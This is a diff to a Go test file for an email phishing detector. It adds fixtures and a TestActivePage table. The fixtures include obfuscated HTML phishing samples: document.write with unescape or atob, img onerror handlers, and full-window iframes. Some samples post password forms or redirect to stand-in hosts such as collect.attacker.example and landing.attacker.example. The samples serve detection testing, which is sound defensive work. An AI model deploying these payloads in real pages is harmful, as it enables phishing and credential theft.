@@ -1,6 +1,7 @@
 package heuristic
 
 import (
+	"context"
 	"encoding/base64"
 	"strings"
 	"testing"
@@ -69,6 +70,7 @@ func htmlPhishCases() map[string][]sample {
 			{"fromCharCode apply", pageAttach("a.html", `<script>document.body.innerHTML=String.fromCharCode(`+charCodes(written)+`)</script>`), "2"},
 			{"unescape percent-u", pageAttach("a.html", `<script>document.write(unescape("%u003Cform action=%u0022https://collect.attacker.example/u%u0022%3E%3Cinput type=password%3E%3C/form%3E"))</script>`), "2"},
 			{"large written page", pageAttach("a.html", `<script>document.write(unescape('`+percentAll(`<div style="background:url(data:image/png;base64,`+strings.Repeat("QUJD", 25000)+`)"></div>`+written)+`'));</script>`), "2"},
+			{"img onerror writes the page", pageAttach("a.html", `<img src="x" onerror="document.body.innerHTML=atob('`+b64+`')">`), "2"},
 			{"two layers", pageAttach("a.html", `<script>document.write(unescape("`+percentAll(`<script>document.write(atob("`+b64+`"))</`+`script>`)+`"))</script>`), "2"},
 			{"written login, script sends", pageAttach("a.html", `<script>document.write(atob("`+base64.StdEncoding.EncodeToString([]byte(loginInputs))+`"))</script>`+fetchSend), "2"},
 			{"iframe srcdoc", pageAttach("a.html", `<iframe srcdoc="`+strings.ReplaceAll(written, `"`, "&quot;")+`" style="width:100%;height:100%"></iframe>`), "2"},
@@ -105,6 +107,7 @@ func htmlPhishCases() map[string][]sample {
 			{"written meta refresh", pageAttach("a.html", `<script>document.write(unescape('`+percentAll(`<meta http-equiv="refresh" content="0;url=https://landing.attacker.example/w">`)+`'))</script>`), "2"},
 			{"full-window iframe", pageAttach("a.html", `<body style="margin:0"><iframe src="https://landing.attacker.example/f" width="100%" height="100%" frameborder=0></iframe></body>`), "2"},
 			{"iframe styled to fill", pageAttach("a.html", `<iframe src="https://landing.attacker.example/f" style="position:fixed; top:0; left:0; bottom:0; right:0; border:none"></iframe>`+strings.Repeat("<p>Lorem ipsum dolor sit amet.</p>", 100)), "2"},
+			{"img onerror", pageAttach("a.html", strings.Repeat("<p>Lorem ipsum dolor sit amet.</p>", 100)+`<img src=x onerror="window.location='https://landing.attacker.example/e'">`), "2"},
 			{"frame on an empty page", pageAttach("a.html", `<iframe src="https://landing.attacker.example/e" width="900" height="700"></iframe>`), "2"},
 			{"frameset", pageAttach("a.html", `<frameset rows="100%"><frame src="https://landing.attacker.example/fs"></frameset>`), "2"},
 			{"named function called", pageAttach("a.html", `<script>function go(u){ location.replace(u) }
@@ -162,5 +165,31 @@ func TestDecodeJS(t *testing.T) {
 	}
 	if got := writtenMarkup(`x = "a < b"; document.write("<p>" + y + "</p>")`); got != "<p></p>" {
 		t.Errorf("writtenMarkup = %q", got)
+	}
+}
+
+func TestActivePage(t *testing.T) {
+	for _, c := range []struct {
+		html string
+		want bool
+	}{
+		{`<p>Hello</p><table style="x"><tr><td>on=1</td></tr></table>`, false},
+		{`<p>Contact us on Monday; prices on request.</p><a href="https://example.com/?on=1">x</a>`, false},
+		{`<p title="a onclick=b">x</p>`, true}, // over-reads: the page is read, nothing more
+		{`<img alt=">" onerror="go()">`, true},
+		{`<img src="x"onerror="go()">`, true},
+		{`<img src=x onerror="go()">`, true},
+		{`<img src=x/onerror=go()>`, true},
+		{`<DIV ONMOUSEOVER = "x">`, true},
+		{`<Script>x</script>`, true},
+		{`<meta charset=utf-8><meta name="viewport" content="width=device-width">`, false},
+		{`<META HTTP-EQUIV="Refresh" content="0;url=x">`, true},
+		{`<iframe src=x>`, true},
+	} {
+		e := newEnv(context.Background(), body(c.html), Options{})
+		if got := e.activePage(e.m.Parts[0]); got != c.want {
+			t.Errorf("activePage(%s) = %v, want %v", c.html, got, c.want)
+		}
+		e.release()
 	}
 }
